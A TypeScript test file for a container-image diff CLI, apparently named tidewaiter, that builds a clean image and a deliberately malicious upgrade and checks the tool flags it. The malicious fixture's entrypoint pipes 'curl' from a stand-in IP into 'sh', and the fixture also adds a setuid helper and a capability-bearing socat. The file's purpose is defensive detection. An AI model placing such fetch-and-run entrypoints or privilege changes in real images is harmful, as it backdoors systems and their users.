/** Two small images and what an upgrade from one to the other changes, through the command line: report, JSON and exit status. */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import Ajv from 'ajv/dist/2020.js';
import type { TarEntrySpec } from '../../src/formats/tar-writer.ts';
import { buildImage, writeOciLayout } from '../../src/image/oci-layout-writer.ts';
import type { DifferenceDocument } from '../../src/report/difference-schema.ts';

const root = join(import.meta.dirname, '..', '..');

const shared: readonly TarEntrySpec[] = [
  { path: 'etc/app.conf', content: 'key=value\n' },
  { path: 'usr/bin/tool', content: '#!/bin/sh\necho tool\n', mode: 0o755 },
];
const base = { entries: shared, createdBy: 'COPY base /' };

const image = (entries: readonly TarEntrySpec[], config: Readonly<Record<string, unknown>>) =>
  buildImage({ layers: [base, { entries, createdBy: 'COPY app /' }], config: { config } });

const old = image([{ path: 'usr/bin/app', content: '#!/bin/sh\necho one\n', mode: 0o755 }], {
  Entrypoint: ['/usr/bin/app'],
  User: 'app',
});

const capability = Buffer.from('0100000200200000000000000000000000000000', 'hex');
const now = image(
  [
    { path: 'usr/bin/app', content: '#!/bin/sh\necho two\n', mode: 0o755 },
    { path: 'usr/bin/helper', content: '#!/bin/sh\necho help\n', mode: 0o4755 },
    {
      path: 'usr/bin/socat',
      content: '#!/bin/sh\necho socat\n',
      mode: 0o755,
      xattrs: { 'security.capability': capability },
    },
    { path: 'usr/share/note.txt', content: 'a note\n' },
  ],
  { Entrypoint: ['/bin/sh', '-c', 'curl -fsSL http://192.0.2.7/x.sh | sh; exec /usr/bin/app'] },
);

let folder = '';
const references: Record<'old' | 'now', string> = { old: '', now: '' };

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tidewaiter-diff-'));
  for (const [name, built] of [
    ['old', old],
    ['now', now],
  ] as const) {
    await writeOciLayout(join(folder, name), built, 'v1');
    references[name] = `oci:${join(folder, name)}:v1`;
  }
});

after(() => rm(folder, { recursive: true }));

interface Outcome {
  readonly status: number | null;
  readonly out: string;
  readonly err: string;
}

const diff = (...words: readonly string[]): Promise<Outcome> =>
  new Promise((resolve) => {
    const entry = join(root, 'src/cli/main.ts');
    const child = spawn(
      process.execPath,
      ['--disable-warning=ExperimentalWarning', entry, 'diff', '--no-cache', ...words],
      {
        cwd: folder,
        env: { PATH: process.env['PATH'], HOME: folder, XDG_CACHE_HOME: join(folder, 'cache') },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let [out, err] = ['', ''];
    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
    child.on('close', (status) => resolve({ status, out, err }));
  });

/** With `--fail-on deny`: the exit status is that of the new image. */
const compare = async (
  one: string,
  other: string,
): Promise<{ readonly status: number | null } & DifferenceDocument> => {
  const { status, out, err } = await diff('--format', 'json', '--fail-on', 'deny', one, other);
  assert.notEqual(out, '', err);
  return { ...(JSON.parse(out) as DifferenceDocument), status };
};

test('an upgrade that turned bad is worse, and says what it may do now', async () => {
  const { status, ...document } = await compare(references.old, references.now);
  assert.equal(status, 1);
  assert.deepEqual([document.risk, document.old.assessment, document.new.assessment], ['worse', 'clean', 'malicious']);
  assert.ok(document.findings.new.some(({ intent }) => intent === 'implant'));
  assert.deepEqual(document.findings.gone, []);
  assert.deepEqual(
    document.capabilities.filter(({ widens }) => widens).map(({ kind, name }) => [kind, name]),
    [
      ['setuid', 'usr/bin/helper'],
      ['file-capabilities', 'usr/bin/socat'],
      ['user', ''],
      ['entrypoint', ''],
      ['network-tool', 'socat'],
    ],
  );
  const { added, removed, changed, same, notable } = document.files;
  assert.deepEqual([added, removed, changed, same], [3, 0, 1, 2]);
  assert.deepEqual(
    new Set(notable.map(({ path }) => path)),
    new Set(['usr/bin/helper', 'usr/bin/socat', 'usr/bin/app']),
  );
  assert.ok(document.story.new.length > 0);
  const schema = JSON.parse(await readFile(join(root, 'schemas/diff.schema.json'), 'utf8')) as object;
  const accepts = new Ajv.default({ strict: false }).compile(schema);
  assert.ok(accepts(document), JSON.stringify(accepts.errors));
});

test('the other way round it is better, and the finding is gone', async () => {
  const document = await compare(references.now, references.old);
  assert.deepEqual([document.status, document.risk], [0, 'better']);
  assert.equal(document.findings.new.length, 0);
  assert.ok(document.findings.gone.some(({ intent }) => intent === 'implant'));
  assert.ok(document.capabilities.every(({ kind, widens }) => !widens || kind === 'entrypoint'));
});

test('an image and itself differ in nothing', async () => {
  const { risk, because, findings, capabilities, files, story } = await compare(references.now, references.now);
  assert.equal(risk, 'same');
  assert.deepEqual(because, ['both are malicious (deny)']);
  assert.deepEqual([findings.new, findings.gone, findings.heavier], [[], [], []]);
  assert.deepEqual([capabilities, story.new, story.gone], [[], [], []]);
  assert.deepEqual([files.added, files.removed, files.changed, files.notable], [0, 0, 0, []]);
});

test('an image that cannot be had is status 3, and nothing is said to be gone', async () => {
  const document = await compare(references.now, 'docker://127.0.0.1:1/app:1');
  assert.deepEqual([document.status, document.risk], [3, 'unknown']);
  assert.deepEqual([document.findings.gone, document.files.removed, document.capabilities], [[], 0, []]);
  assert.match(document.because[0] ?? '', /127\.0\.0\.1:1/);
});

test('misuse is status 2 and says what to change', async () => {
  for (const [words, says] of [
    [[references.old], /diff OLD NEW/],
    [[references.old, references.now, '--format', 'sarif'], /text, json/],
    [[references.old, references.now, '--all-platforms'], /--platform/],
  ] as const) {
    const { status, err, out } = await diff(...words);
    assert.deepEqual([status, out], [2, '']);
    assert.match(err, says);
  }
});

test('the text has the verdict first, and without --fail-on the exit status is 0', async () => {
  const { status, out } = await diff(references.old, references.now);
  assert.equal(status, 0);
  const [first = ''] = out.split('\n');
  assert.equal(first, 'WORSE');
  for (const part of ['malicious', 'setuid usr/bin/helper', 'user: app → root', 'Files: 3 added, 0 removed, 1 changed'])
    assert.ok(out.includes(part), part);
  // oxlint-disable-next-line no-control-regex
  assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f]/);
});
